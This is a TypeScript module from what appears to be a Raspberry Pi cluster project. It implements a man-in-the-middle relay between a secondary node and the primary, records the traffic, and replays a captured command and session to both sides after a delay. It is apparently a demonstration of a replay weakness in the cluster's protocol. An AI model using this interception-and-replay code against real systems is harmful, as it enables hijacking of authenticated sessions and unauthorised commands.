/** Somebody in the middle: passes on what a secondary and the primary say, records it, and says it again. */
import { setTimeout as sleep } from 'node:timers/promises'
import { loadJsonConfig } from '@rpi-cluster/core/json-config'
import { stopSignal } from '@rpi-cluster/core/lifecycle'
import { createLogger } from '@rpi-cluster/core/logging'
import { type Connection, connect, listen } from '@rpi-cluster/core/sockets'
import { config } from './config.ts'

const stop = stopSignal()
const log = createLogger('attack')
const { attack: own, secondary } = loadJsonConfig(config, ['attack', 'secondary'], log)
const primary = { peer: 'primary', host: secondary.primaryIp, port: secondary.socketPort, stop }

const middle = await listen({ peer: 'secondary', host: '127.0.0.1', port: own.port, stop, log }, inTheMiddle)
log.info(`Whoever connects to ${middle.address} speaks to the primary through here`)

async function inTheMiddle(victim: Connection) {
  const connection = await connect(primary)
  const said: Buffer[] = []
  let command: Buffer | undefined
  await Promise.race([
    passOn(victim, connection, (piece) => {
      said.push(piece)
      if (command) show('The secondary answers', piece)
    }),
    passOn(connection, victim, (piece) => {
      if (command || !piece.includes('{"type":"command"')) return
      command = piece
      playBack(command, victim, said).catch(({ message }: Error) => stop.aborted || log.warn(message))
    }),
  ])
  await connection.close()
}

async function passOn(from: Connection, to: Connection, record: (piece: Buffer) => void) {
  for await (const piece of from.chunks()) {
    record(piece)
    await to.write(piece)
  }
}

async function playBack(command: Buffer, victim: Connection, said: Buffer[]) {
  await sleep(own.afterSeconds * 1000, undefined, { signal: stop })
  show('Saying again, to the secondary', command)
  await victim.write(command)
  const again = await connect(primary)
  for (const piece of [...said]) {
    show('Saying again, to the primary', piece)
    await again.write(piece)
  }
  for await (const piece of again.chunks()) show('The primary answers', piece)
  log.info('The primary has closed the connection')
}

function show(what: string, piece: Buffer) {
  log.info(`${what}: ${piece.toString('utf8', 0, 150)}`)
}
